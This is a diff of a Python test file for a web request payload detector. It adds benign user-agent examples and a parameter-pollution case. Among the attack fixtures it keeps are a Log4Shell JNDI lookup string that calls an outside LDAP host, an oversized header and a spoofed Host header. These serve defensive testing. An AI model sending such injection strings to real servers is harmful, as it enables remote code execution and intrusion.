@@ -39,7 +39,7 @@ def test_learns_value_types_per_parameter(detector: PayloadDetector) -> None:
 
 
 def test_benign_variants_pass(detector: PayloadDetector) -> None:
-    """Unseen but ordinary values (new words, ids, emails, names, cookies) are not flagged."""
+    """Unseen but ordinary values (words, ids, emails, cookies, client software) pass."""
     benign = [
         call(query="q=blue+coffee+mug&page=3&sort=desc"),
         call(query="q=jacket&page=1&sort=relevance"),
@@ -51,6 +51,8 @@ def test_benign_variants_pass(detector: PayloadDetector) -> None:
             body='{"name":"Paula","email":"paula.77@mail.example","age":41,"newsletter":true}',
         ),
         call(cookie="0123456789abcdef"),
+        call(user_agent="Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0"),
+        call(user_agent="NewShopApp/1.0 (iOS 18.1; iPhone16,2) CFNetwork/1568"),
     ]
     for one in benign:
         assert detector.risk_one(one) <= detector.threshold_, detector.explain_one(one)
@@ -79,6 +81,7 @@ def test_benign_variants_pass(detector: PayloadDetector) -> None:
         ({"query": "q=lamp&page=1&sort=asc&debug=true"}, "query", "query_manipulation"),
         ({"query": "q=lamp&page=999999999&sort=asc"}, "query", "query_manipulation"),
         ({"query": "q=lamp&page=1&sort=price"}, "query", "query_manipulation"),
+        ({"query": "q=lamp&page=1&page=2&page=3&sort=asc"}, "query", "query_manipulation"),
         ({"user_agent": "${jndi:ldap://203.0.113.7:1389/a}"}, "user_agent", "header_manipulation"),
         ({"user_agent": "A" * 4000}, "user_agent", "header_manipulation"),
         ({"host": "evil.example"}, "host", "header_manipulation"),
